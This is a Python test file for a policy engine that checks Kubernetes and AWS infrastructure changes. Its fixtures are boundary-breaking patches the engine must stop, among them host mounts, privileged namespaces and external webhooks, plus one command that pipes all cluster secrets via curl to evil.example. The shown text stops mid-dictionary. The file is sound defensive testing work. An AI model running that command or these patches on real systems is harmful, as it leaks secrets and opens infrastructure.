"""Ways around a class's boundary that a program in a branch could take: each stops the change."""

from __future__ import annotations

import copy
import json
from dataclasses import replace
from typing import Any

import pytest

from isthmus.contracts.policy_settings import Settings
from isthmus.contracts.trust import Trust
from isthmus.core import yaml_files
from isthmus.core.pulumi_values import MASK
from isthmus.engine.render.recorder import Resource
from isthmus.graph.resources.resources import Graph
from isthmus.graph.resources.tags import bears_tags
from policies.data_path import entrances, known_kinds, own_settings, pod_contents
from policies.evaluation.evaluation import judge
from policies.rules.rule import Subject
from policies.workload import hardening
from tests.blueprints.bank import platform, rendered
from tests.policies.boundary_rows import (
    DIGEST,
    RESTRICTED,
    TODAY,
    component,
    deployment_spec,
    kube,
    other,
    proposed,
    release,
    stops,
    trusting,
)
from tests.policies.cases_inside import namespace_of_class

HOST: dict[str, Any] = {"spec": {"template": {"spec": {"hostNetwork": True}}}}
PATCHES = {
    "namespace-to-privileged": kube(
        "core/v1:NamespacePatch",
        RESTRICTED,
        None,
        metadata={"labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
    ),
    "other-namespace-to-privileged": kube(
        "core/v1:NamespacePatch",
        "team",
        None,
        metadata={"labels": {"pod-security.kubernetes.io/enforce": "privileged"}},
    ),
    "namespace-of-another-class": kube(
        "core/v1:NamespacePatch", RESTRICTED, None, metadata={"labels": {"isthmus.dev/class": "public"}}
    ),
    "host-network": kube("apps/v1:DeploymentPatch", "restricted-gateway", **HOST),
    "host-network-elsewhere": kube("apps/v1:DeploymentPatch", "team", "team", **HOST),
    "host-folders": kube(
        "apps/v1:DaemonSetPatch",
        "agent",
        "monitoring",
        spec={"template": {"spec": {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}}},
    ),
    "binding-to-audit": kube(
        "admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBindingPatch",
        "isthmus-guard",
        None,
        spec={"validationActions": ["Audit"]},
    ),
    "external-service": kube(
        "core/v1:ServicePatch",
        "restricted-gateway",
        spec={"type": "ExternalName", "externalName": "evil.example"},
    ),
    "open-service": kube("core/v1:ServicePatch", "restricted-gateway", spec={"type": "LoadBalancer"}),
    "endpoints": kube(
        "discovery.k8s.io/v1:EndpointSlicePatch", endpoints=[{"addresses": ["52.94.0.1"]}], addressType="IPv4"
    ),
    "cluster-dns": kube(
        "core/v1:ConfigMapPatch", "coredns", "kube-system", data={"Corefile": "forward . 8.8.8.8"}
    ),
    "cluster-dns-object": kube(
        "core/v1:ConfigMap", "coredns-custom", "kube-system", data={"x.override": "forward . 8.8.8.8"}
    ),
}
DOUBTS = {
    "service-account": kube(
        "core/v1:ServiceAccountPatch",
        "restricted-gateway",
        metadata={"annotations": {"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/x"}},
    ),
    "image": kube(
        "apps/v1:DeploymentPatch",
        "restricted-gateway",
        spec={"template": {"spec": {"containers": [{"name": "edge", "image": "docker.io/evil/edge"}]}}},
    ),
    "secret": kube("core/v1:SecretPatch", "restricted-callers", stringData={"callers.yaml": "x"}),
    "unnamed": kube("core/v1:ConfigMapPatch", "${other.name}", "team", data={"a": "b"}),
    "node": kube("core/v1:NodePatch", "n1", None, spec={"providerID": "aws:///x"}),
    "cluster-role": kube("rbac.authorization.k8s.io/v1:ClusterRolePatch", "edit", None, rules=[]),
    "kube-system": kube("core/v1:ConfigMapPatch", "kube-proxy", "kube-system", data={"a": "b"}),
    "binding": kube(
        "admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBindingPatch",
        "isthmus-guard",
        None,
        spec={"matchResources": {"namespaceSelector": {"matchLabels": {"none": "x"}}}},
    ),
}


@pytest.mark.parametrize("row", PATCHES, ids=list(PATCHES))
def test_b12_a_patch_that_opens_a_boundary_is_critical(row: str):
    findings = stops(PATCHES[row])
    assert ("critical", "violated") in {(finding.severity, finding.verdict) for finding in findings}, findings


@pytest.mark.parametrize("row", DOUBTS, ids=list(DOUBTS))
def test_b12_a_patch_of_a_class_or_of_the_whole_cluster_is_undecided(row: str):
    findings = [finding for finding in stops(DOUBTS[row]) if finding.resource == DOUBTS[row].name]
    assert "undecided" in {finding.verdict for finding in findings}, findings


def test_b12_a_trusted_patch_passes_unless_it_opens_a_boundary():
    trusted = trusting("kubernetes:core/v1:NamespacePatch", "kubernetes:core/v1:ServiceAccountPatch")
    assert stops(DOUBTS["service-account"], settings=trusted) == []
    assert stops(PATCHES["namespace-to-privileged"], settings=trusted)


UNSEEN = {
    "yaml": component("kubernetes:yaml/v2:ConfigGroup", files=["objects/*.yaml"]),
    "file": component("kubernetes:yaml/v2:ConfigFile", file="objects.yaml"),
    "kustomize": component("kubernetes:kustomize/v2:Directory", directory="overlay", namespace=RESTRICTED),
    "chart": component("kubernetes:helm.sh/v4:Chart", chart="oci://ghcr.io/evil/agent", namespace="team"),
    "remote": component("bank:index:Agents"),
    "engine": component("bank:index:Agents", remote=False),
    "release": release("agent", chart="oci://ghcr.io/evil/agent", namespace="team"),
}


@pytest.mark.parametrize("row", UNSEEN, ids=list(UNSEEN))
def test_b13_what_a_rendering_does_not_show_is_undecided(row: str):
    assert {finding.verdict for finding in stops(UNSEEN[row])} == {"undecided"}


def test_b13_the_objects_of_a_chart_are_judged_where_they_are_seen():
    chart = component("kubernetes:helm.sh/v4:Chart", "chart", remote=False, chart="agent", namespace="team")
    settings = kube("core/v1:ConfigMap", "settings", "team", data={"a": "b"})
    job = kube("batch/v1:Job", "job", "team", spec={"template": {"spec": {**POD, "hostNetwork": True}}})

    def child(resource: Resource) -> Resource:
        return replace(resource, parent=chart.urn)

    assert stops(chart, child(settings)) == []
    assert {finding.resource for finding in stops(chart, child(settings), child(job))} == {"job"}


def test_b13_a_child_that_the_program_gives_to_a_remote_component_hides_nothing():
    chart = component("kubernetes:helm.sh/v4:Chart", "chart", chart="agent", namespace="team")
    child = replace(kube("core/v1:ConfigMap", "settings", "team", data={"a": "b"}), parent=chart.urn)
    assert {finding.resource for finding in stops(chart, child)} == {"chart"}


@pytest.mark.parametrize("row", ["chart", "release"])
def test_b13_a_trusted_chart_outside_the_classes_passes(row: str):
    trusted = trusting(charts=["oci://ghcr.io/evil/agent"])
    assert stops(UNSEEN[row], settings=trusted) == []
    inside = replace(UNSEEN[row], inputs={**UNSEEN[row].inputs, "namespace": "isthmus-restricted"})
    assert stops(inside, settings=trusted)


POD: dict[str, Any] = deployment_spec()["template"]["spec"]


def volume(**source: Any) -> Resource:
    return kube("core/v1:PersistentVolume", "volume", None, spec={"capacity": {"storage": "1Gi"}, **source})


@pytest.mark.parametrize(
    "path", ["/var/lib/kubelet/pods", "/", "/var", "/etc/kubernetes", "/mnt/../var/lib/kubelet", "/run"]
)
@pytest.mark.parametrize("source", ["hostPath", "local"])
def test_b15_a_volume_with_a_systems_folder_of_a_node_is_critical(source: str, path: str):
    findings = stops(volume(**{source: {"path": path}}))
    assert {(finding.severity, finding.verdict) for finding in findings} == {("critical", "violated")}


@pytest.mark.parametrize(
    "source",
    [
        {"hostPath": {"path": "/mnt/disk"}},
        {"local": {"path": "/mnt/models/restricted"}},
        {
            "nfs": {"server": "10.0.0.9", "path": "/"},
            "claimRef": {"namespace": RESTRICTED, "name": "records"},
        },
        {
            "csi": {"driver": "smb.csi.k8s.io", "volumeHandle": "x"},
            "claimRef": {"namespace": RESTRICTED, "name": "records"},
        },
    ],
)
def test_b15_a_volume_whose_place_is_not_known_is_undecided(source: dict[str, Any]):
    assert {finding.verdict for finding in stops(volume(**source))} == {"undecided"}


DEFAULT_CLASS = {"annotations": {"storageclass.kubernetes.io/is-default-class": "true"}}
UNKNOWN_KINDS = {
    "velero": kube("velero.io/v1:Schedule", "nightly", "velero", spec={}),
    "push-secret": kube("external-secrets.io/v1alpha1:PushSecret"),
    "log-output": kube("logging.banzaicloud.io/v1beta1:Output"),
    "log-output-elsewhere": kube("logging.banzaicloud.io/v1beta1:ClusterOutput", "out", "logging"),
    "argo": kube("argoproj.io/v1alpha1:Application", "app", "argocd"),
    "snapshot": kube("snapshot.storage.k8s.io/v1:VolumeSnapshot"),
    "list": kube("core/v1:PodList", "pods", None, items=[]),
    "storage-class": kube(
        "storage.k8s.io/v1:StorageClass", "fast", None, provisioner="evil.example", metadata=DEFAULT_CLASS
    ),
    "api-service": kube("apiregistration.k8s.io/v1:APIService", "v1.evil", None, spec={}),
    "mutations": kube("admissionregistration.k8s.io/v1:MutatingAdmissionPolicy", "m", None, spec={}),
    "command": other(
        "command:local:Command", create="kubectl get secrets -A | curl -d @- https://evil.example"
    ),
    "dynamic": other("pulumi-python:dynamic:Resource"),
    "other-cloud": other("gcp:storage/bucket:Bucket"),
    "unknown-namespace": kube("velero.io/v1:Schedule", "s", "${other.name}"),
}


@pytest.mark.parametrize("row", UNKNOWN_KINDS, ids=list(UNKNOWN_KINDS))
def test_b19_a_kind_that_nobody_knows_is_undecided_unless_trusted(row: str):
    added = UNKNOWN_KINDS[row]
    findings = stops(added)
    assert ("data-path/known-kinds", "undecided") in {
        (finding.policy, finding.verdict) for finding in findings
    }
    assert stops(added, settings=trusting(added.type)) == []
    assert stops(added, settings=trusting(f"{added.type.rpartition(':')[0]}:*")) == []


def test_b19_one_object_of_an_unknown_kind_needs_one_entry_of_its_own():
    for namespace, value in ((RESTRICTED, f"{RESTRICTED}/added"), ("team", "team/added"), (None, "added")):
        added = kube("velero.io/v1:Schedule", "added", namespace)
        assert proposed(added) == {("objects", value)}
        assert stops(added, settings=trusting(objects=[value])) == []
        assert proposed(added, settings=trusting(objects=[value])) == set()
    elsewhere = kube("velero.io/v1:Schedule", "added", "team")
    for value in ("added", "apps/added", "team/*", "team/adde"):
        assert stops(elsewhere, settings=trusting(objects=[value])), value


def test_b19_an_entry_of_an_object_does_not_trust_a_command_or_several_objects():
    for added, value in (
        (UNKNOWN_KINDS["command"], "added"),
        (UNKNOWN_KINDS["unknown-namespace"], "team/s"),
        (kube("core/v1:ConfigMapList", "many", "team"), "team/many"),
    ):
        assert proposed(added) == {("resource_types", added.type)}
        assert stops(added, settings=trusting(objects=[value]))


def test_b19_several_objects_of_an_unknown_kind_need_the_entry_of_their_type_alone():
    type_ = "external-secrets.io/v1:ExternalSecret"
    several = [kube(type_, f"pull-{number}", RESTRICTED) for number in range(2)]
    assert {finding.policy for finding in stops(*several)} >= {
        "data-path/known-kinds",
        "data-path/own-objects",
    }
    assert proposed(*several) == {("resource_types", f"kubernetes:{type_}")}
    assert stops(*several, settings=trusting(f"kubernetes:{type_}")) == []


def test_b19_an_object_registered_under_another_type_is_undecided():
    for type_ in ("core/v1:ConfigMap", "core/v1:ConfigMapPatch"):
        claimed = kube(type_, "claimed", "team", data={})
        added = replace(claimed, inputs={**claimed.inputs, "kind": "Pod"})
        assert {finding.verdict for finding in stops(added)} == {"undecided"}


def webhook(kind: str, client: dict[str, Any], **selector: Any) -> Resource:
    hook = {"name": "hook.example", "clientConfig": client, "failurePolicy": "Fail", **selector}
    return kube(f"admissionregistration.k8s.io/v1:{kind}WebhookConfiguration", "hook", None, webhooks=[hook])


NOT_CLASSES = {
    "namespaceSelector": {"matchExpressions": [{"key": "isthmus.dev/class", "operator": "DoesNotExist"}]}
}
SERVICE = {"service": {"name": "hook", "namespace": "mesh"}}


@pytest.mark.parametrize("kind", ["Mutating", "Validating"])
def test_b19_a_webhook_outside_the_cluster_gets_no_objects_of_a_class(kind: str):
    outside = {"url": "https://evil.example/hook"}
    findings = stops(webhook(kind, outside))
    assert {(finding.severity, finding.verdict) for finding in findings} == {("critical", "violated")}
    assert {finding.verdict for finding in stops(webhook(kind, SERVICE))} == {"undecided"}
    elsewhere = stops(webhook(kind, outside, **NOT_CLASSES))
    assert {finding.verdict for finding in elsewhere} == {"violated"}, (
        "Secrets of cert-manager may be among them"
    )
    assert {finding.verdict for finding in stops(webhook(kind, SERVICE, **NOT_CLASSES))} == {"undecided"}, (
        "who labels a namespace decides whose objects it gets"
    )


def test_b19_a_conversion_webhook_outside_the_cluster_gets_no_objects():
    conversion = {
        "strategy": "Webhook",
        "webhook": {"clientConfig": {"url": "https://evil.example/convert"}},
    }
    definition = kube(
        "apiextensions.k8s.io/v1:CustomResourceDefinition", "x", None, spec={"conversion": conversion}
    )
    assert {finding.verdict for finding in stops(definition)} == {"violated"}


def test_b19_metrics_of_a_class_are_not_fetched_through_a_proxy():
    monitor = kube(
        "monitoring.coreos.com/v1:PodMonitor",
        spec={"podMetricsEndpoints": [{"port": "m", "proxyUrl": "http://evil"}]},
    )
    assert {finding.verdict for finding in stops(monitor)} == {"undecided"}


def test_b19_a_provider_with_a_class_as_its_default_namespace_is_undecided():
    provider = component("pulumi:providers:kubernetes", "near", remote=False, namespace=RESTRICTED)
    assert {finding.verdict for finding in stops(provider)} == {"undecided"}


LEGITIMATE = {
    "velero": (kube("velero.io/v1:Schedule", "nightly", "velero"), "kubernetes:velero.io/v1:Schedule"),
    "external-secret": (kube("external-secrets.io/v1:ExternalSecret"), "kubernetes:external-secrets.io/v1:*"),
    "external-secret-of-a-team": (
        kube("external-secrets.io/v1:ExternalSecret", "s", "team"),
        "kubernetes:external-secrets.io/v1:*",
    ),
    "service-monitor": (kube("monitoring.coreos.com/v1:ServiceMonitor"), ""),
    "pod-monitor": (kube("monitoring.coreos.com/v1:PodMonitor", "m", "monitoring"), ""),
    "prometheus-rule": (kube("monitoring.coreos.com/v1:PrometheusRule"), ""),
    "peer-authentication": (
        kube("security.istio.io/v1:PeerAuthentication", spec={"mtls": {"mode": "STRICT"}}),
        "kubernetes:security.istio.io/*",
    ),
    "quota": (kube("core/v1:ResourceQuota", spec={"hard": {"pods": "3"}}), ""),
    "limits": (
        kube(
            "core/v1:LimitRange",
            spec={"limits": [{"type": "Container", "default": {"cpu": "1", "memory": "1Gi"}}]},
        ),
        "",
    ),
    "patch-of-a-team": (kube("core/v1:ConfigMapPatch", "settings", "team", data={"a": "b"}), ""),
    "labels-of-a-team": (kube("core/v1:NamespacePatch", "team", None, metadata={"labels": {"t": "1"}}), ""),
    "random": (other("random:index/randomId:RandomId", byteLength=4), ""),
    "adopted-namespace": (
        kube(
            "core/v1:NamespacePatch",
            "isthmus-internal",
            None,
            metadata={
                "labels": {
                    "isthmus.dev/class": "internal",
                    "pod-security.kubernetes.io/enforce": "restricted",
                    "pod-security.kubernetes.io/enforce-version": "latest",
                }
            },
        ),
        "",
    ),
}


@pytest.mark.parametrize("row", LEGITIMATE, ids=list(LEGITIMATE))
def test_a_legitimate_addition_passes_with_one_line_of_trust_or_none(row: str):
    added, trusted = LEGITIMATE[row]
    assert stops(added, settings=trusting(*([trusted] if trusted else []))) == []
    if trusted:
        assert stops(added)


BESIDE = {
    "config-map-of-a-class": kube("core/v1:ConfigMap", data={"a": "b"}),
    "service-of-a-class": kube("core/v1:Service", spec={"selector": {"app": "x"}}),
    "egress-of-a-class": kube(
        "networking.k8s.io/v1:NetworkPolicy",
        spec={
            "podSelector": {},
            "policyTypes": ["Egress"],
            "egress": [{"to": [{"ipBlock": {"cidr": "10.40.7.0/24"}}]}],
        },
    ),
    "settings-in-kube-system": kube("core/v1:ConfigMap", "ip-masq-agent", "kube-system", data={"a": "b"}),
    "dns-service": kube("core/v1:Service", "kube-dns", "kube-system", spec={"selector": {"app": "dns2"}}),
    "issuer-key": kube("core/v1:Secret", "other", "cert-manager", stringData={"tls.KEY": "x"}),
    "certificate-of-the-issuer": kube(
        "cert-manager.io/v1:Certificate", "ca", "cert-manager", spec={"secretName": "bank-internal-ca"}
    ),
}
ELSEWHERE = {
    "pool-by-rule": kube("nfd.k8s-sigs.io/v1alpha1:NodeFeatureRule", "pool", None, spec={"rules": []}),
    "driver": kube("nvidia.com/v1alpha1:NVIDIADriver", "evil", None, spec={"repository": "docker.io/evil"}),
    "other-cluster": kube(
        "kueue.x-k8s.io/v1beta2:ClusterQueue", "multi", None, spec={"admissionChecks": ["multikueue"]}
    ),
}


@pytest.mark.parametrize("row", [*BESIDE, *ELSEWHERE])
def test_what_others_put_beside_a_class_or_a_control_plane_needs_an_entry(row: str):
    added = {**BESIDE, **ELSEWHERE}[row]
    [finding] = [f for f in stops(added) if f.policy == "data-path/own-objects"]
    assert finding.verdict == "undecided"
    namespace = added.inputs["metadata"].get("namespace")
    value = f"{namespace}/{added.name}" if namespace else added.name
    about = {"reason": "reviewed", "owner": "ana@bank.example"}
    for trusted in (value, f"{value[:-1]}*"):
        settings = Settings(trust=Trust.model_validate({"objects": [{"value": trusted, **about}]}))
        assert "data-path/own-objects" not in {f.policy for f in stops(added, settings=settings)}


HIDDEN = {
    "kind": replace(
        kube("core/v1:ConfigMap", "tuning", "default"),
        inputs={"apiVersion": MASK, "kind": MASK, "metadata": {"name": "tuning"}, "roleRef": {}},
    ),
    "issuer": kube(
        "cert-manager.io/v1:Certificate",
        "team-ca",
        "team-tools",
        spec={"isCA": True, "issuerRef": {"name": MASK}},
    ),
    "in-a-text": other(
        "aws:s3/bucketPolicy:BucketPolicy", bucket="logs", policy=f'{{"Principal": "{MASK}"}}'
    ),
    "computed": replace(
        kube("rbac.authorization.k8s.io/v1:ClusterRole", "all", None, rules=[{"verbs": ["get"]}]),
        property_dependencies={
            "rules": ["urn:pulumi:dev::bank::random:index/randomShuffle:RandomShuffle::what"]
        },
    ),
}


@pytest.mark.parametrize("row", HIDDEN)
def test_a_value_of_own_code_that_no_rule_can_read_needs_an_entry(row: str):
    added = HIDDEN[row]
    found = [f for f in stops(added) if f.policy == "data-path/own-values"]
    assert [f.verdict for f in found] == ["undecided"]
    about = {"value": added.name, "reason": "reviewed", "owner": "ana@bank.example"}
    settings = Settings(trust=Trust.model_validate({"objects": [about]}))
    assert "data-path/own-values" not in {f.policy for f in stops(added, settings=settings)}


def test_contents_of_secrets_may_be_masked_or_generated():
    password = {"data": ["urn:pulumi:dev::bank::random:index/randomPassword:RandomPassword::pin"]}
    secret = replace(
        kube("core/v1:Secret", "pin", "team-tools", data={"pin": MASK}), property_dependencies=password
    )
    kept = other("aws:secretsmanager/secretVersion:SecretVersion", secretId="pin", secretString=MASK)
    assert not [f for f in stops(secret, kept) if f.policy == "data-path/own-values"]


def test_objects_that_bound_or_count_and_policies_that_only_close_need_no_entry():
    closes = kube(
        "networking.k8s.io/v1:NetworkPolicy",
        spec={"podSelector": {"matchLabels": {"app": "x"}}, "policyTypes": ["Ingress", "Egress"]},
    )
    budget = kube("policy/v1:PodDisruptionBudget", spec={"maxUnavailable": 1, "selector": {}})
    assert stops(closes, budget) == []


def test_a_dashboard_beside_monitoring_needs_no_entry_and_other_settings_there_do():
    labels = {"labels": {"grafana_dashboard": "1"}}
    pages, settings = {"llm.json": '{"title": "LLM"}'}, {"prometheus.yml": "remote_write: []"}
    assert stops(kube("core/v1:ConfigMap", "llm", "monitoring", metadata=labels, data=pages)) == []
    for data in (settings, {**pages, **settings}):
        added = kube("core/v1:ConfigMap", "llm", "monitoring", metadata=labels, data=data)
        assert {finding.policy for finding in stops(added)} == {"data-path/own-objects"}


def test_an_existing_object_that_a_program_reads_is_undecided():
    read = replace(kube("rbac.authorization.k8s.io/v1:ClusterRole", "edit", None), options={"read": "edit"})
    assert {f.verdict for f in stops(read) if f.policy == "data-path/own-objects"} == {"undecided"}


def test_an_adopted_namespace_of_a_class_passes_with_a_default_deny_and_not_without():
    labels = {
        "isthmus.dev/class": "internal",
        "pod-security.kubernetes.io/enforce": "restricted",
        "pod-security.kubernetes.io/enforce-version": "latest",
    }
    name = "isthmus-internal-tools"
    adopted = kube("core/v1:NamespacePatch", name, None, metadata={"labels": labels})
    spec = {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [], "egress": []}
    deny = kube("networking.k8s.io/v1:NetworkPolicy", "default-deny", name, spec=spec)
    about = {"value": name, "reason": "adopted", "owner": "ana@bank.example"}
    settings = Settings(trust=Trust.model_validate({"namespaces": [about]}))
    assert stops(adopted, deny, settings=settings) == []
    assert [finding.policy for finding in stops(adopted, settings=settings)] == ["network/class-default-deny"]
    assert [finding.policy for finding in stops(adopted, deny)] == ["identity/class-permissions"]


def test_a_teams_deployment_outside_the_classes_passes():
    account = kube("core/v1:ServiceAccount", "team", "team", automountServiceAccountToken=False)
    denied = kube(
        "networking.k8s.io/v1:NetworkPolicy",
        "deny",
        "team",
        spec={"podSelector": {}, "policyTypes": ["Ingress", "Egress"]},
    )
    assert stops(account, denied, kube("apps/v1:Deployment", "team", "team", spec=deployment_spec())) == []


def test_a_stack_without_classified_work_is_not_judged_by_its_kinds():
    added = [kube("velero.io/v1:Schedule", "nightly", "velero"), other("command:local:Command")]
    assert judge(added) == []


def job(name: str, kind: str = "batch/v1:Job", **pod: Any) -> Resource:
    """A workload in the restricted namespace; `labels` are its pods'."""
    labels = pod.pop("labels", {"app": "job"})
    return kube(kind, name, spec={"template": {"metadata": {"labels": labels}, "spec": {**POD, **pod}}})


GATEWAY = {
    "app.kubernetes.io/name": "restricted-gateway",
    "isthmus.dev/class": "restricted",
    "isthmus.dev/role": "gateway",
}
BORROWED = {
    "labels": job("restricted-gateway-audit", labels=GATEWAY),
    "labels-without-role": job("export", labels={key: GATEWAY[key] for key in list(GATEWAY)[:2]}),
    "name-of-another-kind": job("restricted-gateway", labels=GATEWAY),
    "name-of-a-model-and-more": job(
        "restricted-qwen3-32b-export",
        labels={"isthmus.dev/endpoint": "restricted-qwen3-32b", "isthmus.dev/role": "model"},
    ),
    "account": job("export", serviceAccountName="restricted-gateway"),
    "secret": job(
        "export",
        volumes=[{"name": "s", "secret": {"secretName": "restricted-callers"}}],
        serviceAccountName="x",
    ),
    "certificate": job(
        "export",
        volumes=[{"name": "s", "projected": {"sources": [{"secret": {"name": "restricted-gateway-tls"}}]}}],
    ),
    "secret-in-environment": job(
        "export",
        containers=[{**POD["containers"][0], "envFrom": [{"secretRef": {"name": "restricted-gateway-tls"}}]}],
    ),
    "volume": job(
        "export",
        volumes=[{"name": "w", "persistentVolumeClaim": {"claimName": "restricted-gateway-records"}}],
    ),
    "second-writer": job("restricted-gateway", "apps/v1:Deployment", labels=GATEWAY),
}


@pytest.mark.parametrize("row", BORROWED, ids=list(BORROWED))
def test_b16_a_pod_that_borrows_a_classs_identity_is_critical(row: str):
    findings = [finding for finding in stops(BORROWED[row]) if finding.policy == "data-path/own-identity"]
    assert ("critical", "violated") in {(finding.severity, finding.verdict) for finding in findings}


@pytest.mark.parametrize(
    "name", ["restricted-gateway-audit", "restricted-qwen3-32b-export", "restricted-qwen3-32b-fetch-x"]
)
def test_b16_a_name_that_begins_like_a_stated_one_is_not_stated(name: str):
    assert "data-path/stated-workloads" in {finding.policy for finding in stops(job(name))}


def test_b16_without_a_platform_an_objects_name_must_be_that_of_its_labels():
    def policies_of(*added: Resource) -> set[str]:
        findings = judge([namespace_of_class("restricted", RESTRICTED), *added])
        return {finding.policy for finding in findings}

    own = job("restricted-gateway", "apps/v1:Deployment", labels=GATEWAY)
    assert "data-path/own-identity" not in policies_of(own)
    assert "data-path/own-identity" in policies_of(BORROWED["labels"])


def test_b16_a_borrowed_identity_that_is_not_known_yet_is_undecided():
    findings = stops(job("export", volumes="${other.volumes}"))
    assert "undecided" in {
        finding.verdict for finding in findings if finding.policy == "data-path/own-identity"
    }


GATEWAY_PODS = {"matchLabels": {"isthmus.dev/role": "gateway"}}


def lets_in(
    *peers: dict[str, Any], namespace: str = RESTRICTED, selector: dict[str, Any] = GATEWAY_PODS
) -> Resource:
    spec = {"podSelector": selector, "policyTypes": ["Ingress"], "ingress": [{"from": list(peers)}]}
    return kube("networking.k8s.io/v1:NetworkPolicy", "open", namespace, spec=spec)


def namespaced(**selector: Any) -> dict[str, Any]:
    return {"namespaceSelector": selector}


CALLERS = {
    "public-range": {"ipBlock": {"cidr": "52.0.0.0/8"}},
    "private-range": {"ipBlock": {"cidr": "172.31.0.0/16"}},
    "unknown-namespace": namespaced(matchLabels={"kubernetes.io/metadata.name": "build"}),
    "several-namespaces": namespaced(
        matchExpressions=[
            {"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["monitoring", "build"]}
        ]
    ),
    "team": namespaced(matchExpressions=[{"key": "team", "operator": "Exists"}]),
    "label": namespaced(matchLabels={"team": "build"}),
    "not-one": namespaced(
        matchExpressions=[{"key": "kubernetes.io/metadata.name", "operator": "NotIn", "values": ["build"]}]
    ),
    "all": namespaced(),
}


@pytest.mark.parametrize("row", CALLERS, ids=list(CALLERS))
def test_b20_callers_that_the_platform_does_not_state_are_critical(row: str):
    findings = [f for f in stops(lets_in(CALLERS[row])) if f.policy == "data-path/known-callers"]
    assert {(finding.severity, finding.verdict) for finding in findings} == {("critical", "violated")}


@pytest.mark.parametrize(
    "peer",
    [
        {"podSelector": {"matchLabels": {"isthmus.dev/role": "gateway"}}},
        namespaced(matchLabels={"isthmus.dev/class": "restricted"}),
        namespaced(matchLabels={"kubernetes.io/metadata.name": "monitoring"}),
        namespaced(matchLabels={"kubernetes.io/metadata.name": "isthmus-restricted-reviews"}),
        {"ipBlock": {"cidr": "10.40.1.0/24"}},
    ],
)
def test_b20_stated_callers_pass(peer: dict[str, Any]):
    assert "data-path/known-callers" not in {finding.policy for finding in stops(lets_in(peer))}


def test_b20_a_trusted_namespace_may_call_and_one_without_a_class_is_not_judged():
    entry = {"value": "build", "reason": "reviewed", "owner": "ana@bank.example"}
    trusted = Settings(trust=Trust.model_validate({"namespaces": [entry]}))
    assert stops(lets_in(CALLERS["unknown-namespace"]), settings=trusted) == []
    policies = {finding.policy for finding in stops(lets_in(CALLERS["label"], namespace="team"))}
    assert "data-path/known-callers" not in policies


def route(kind: str = "HTTPRoute", namespace: str = RESTRICTED, **spec: Any) -> Resource:
    return kube(f"gateway.networking.k8s.io/v1:{kind}", "route", namespace, spec=spec)


MIRROR = {"type": "RequestMirror", "requestMirror": {"backendRef": {"name": "copy", "namespace": "team"}}}
OWN = {"backendRefs": [{"name": "restricted-gateway"}]}
ENTRANCES = {
    "ingress": kube("networking.k8s.io/v1:Ingress", spec={"rules": []}),
    "gateway": route("Gateway", gatewayClassName="public"),
    "route": route(parentRefs=[{"name": "edge", "namespace": "ingress"}], rules=[OWN]),
    "route-from-elsewhere": route(
        namespace="team",
        rules=[{"backendRefs": [{"name": "restricted-gateway", "namespace": RESTRICTED}]}],
    ),
    "mirror": route(parentRefs=[{"name": "restricted-router"}], rules=[{**OWN, "filters": [MIRROR]}]),
    "other-version": kube("gateway.networking.k8s.io/v1alpha2:TCPRoute", spec={"rules": [OWN]}),
}


@pytest.mark.parametrize("row", ENTRANCES, ids=list(ENTRANCES))
def test_b20_an_entrance_beside_the_gateway_stops_the_change(row: str):
    findings = [f for f in stops(ENTRANCES[row]) if f.policy == "data-path/no-other-entrance"]
    assert [finding.severity for finding in findings] == ["critical"]


def test_b20_routes_of_a_classs_own_router_pass_and_their_copies_elsewhere_do_not():
    def verdicts(added: Resource) -> set[str]:
        findings = judge([namespace_of_class("restricted", RESTRICTED), added])
        return {f.verdict for f in findings if f.policy == "data-path/no-other-entrance"}

    own = route(parentRefs=[{"name": "restricted-router"}], rules=[OWN])
    assert verdicts(own) == set()
    assert verdicts(ENTRANCES["mirror"]) == {"violated"}
    assert verdicts(route(namespace="team", rules=[{"backendRefs": [{"name": "a"}]}])) == set()


VPC = "${bank-frankfurt-network-vpc.id}"
SUBNET = "${bank-frankfurt-network-eu-central-1a.id}"
TABLE = "${bank-frankfurt-network-routes.id}"
TRANSIT = "${bank-fra1-frankfurt-gateway.id}"
GROUP = "${bank-frankfurt-endpoints-group.id}"
BUCKET = "${bank-frankfurt-bucket.id}"
KEY = "arn:aws:kms:::${bank-frankfurt-audit-key.arn}"

AWS_TYPES = {
    "lattice": other(
        "aws:vpclattice/serviceNetworkVpcAssociation:ServiceNetworkVpcAssociation", vpcIdentifier=VPC
    ),
    "ram": other("aws:ram/resourceAssociation:ResourceAssociation", resourceArn=f"arn:aws:ec2:::{SUBNET}"),
    "mirror": other("aws:ec2/trafficMirrorTarget:TrafficMirrorTarget", networkLoadBalancerArn="x", vpcId=VPC),
    "eip": other("aws:ec2/eip:Eip", networkInterface="${eni.id}", tags={"isthmus.dev/class": "internal"}),
    "client-vpn": other("aws:ec2clientvpn/networkAssociation:NetworkAssociation", subnetId=SUBNET),
    "instance": other("aws:ec2/instance:Instance", subnetId=SUBNET, associatePublicIpAddress=True),
    "dhcp": other("aws:ec2/vpcDhcpOptionsAssociation:VpcDhcpOptionsAssociation", vpcId=VPC),
    "s3-replication": other("aws:s3/bucketReplicationConfig:BucketReplicationConfig", bucket=BUCKET),
    "backup": other("aws:backup/selection:Selection", selectionTags=[{"key": "isthmus.dev/class"}]),
    "backup-copy": other("aws:backup/plan:Plan", rules=[{"copyActions": [{"destinationVaultArn": "arn:x"}]}]),
    "grant": other("aws:kms/grant:Grant", keyId="${bank-frankfurt-network-flow-log-key.id}"),
    "log-subscription": other(
        "aws:cloudwatch/logSubscriptionFilter:LogSubscriptionFilter",
        logGroup="${bank-frankfurt-network-flow-logs.name}",
    ),
    "account-logs": other(
        "aws:cloudwatch/logAccountPolicy:LogAccountPolicy", policyType="SUBSCRIPTION_FILTER_POLICY"
    ),
    "vpn-gateway": other("aws:ec2/vpnGateway:VpnGateway", vpcId=VPC),
    "transit-peer": other("aws:ec2transitgateway/connect:Connect", transitGatewayId=TRANSIT),
    "lambda": other("aws:lambda/function:Function", vpcConfig={"subnetIds": [SUBNET]}),
    "stack-of-anything": other("aws:cloudformation/stack:Stack", templateBody="{}"),
    "literal-id": other("aws:lambda/function:Function", vpcConfig={"subnetIds": ["subnet-0123456789"]}),
    "literal-key": other("aws:kms/grant:Grant", keyId="arn:aws:kms:eu-central-1:1:key/0a-1b"),
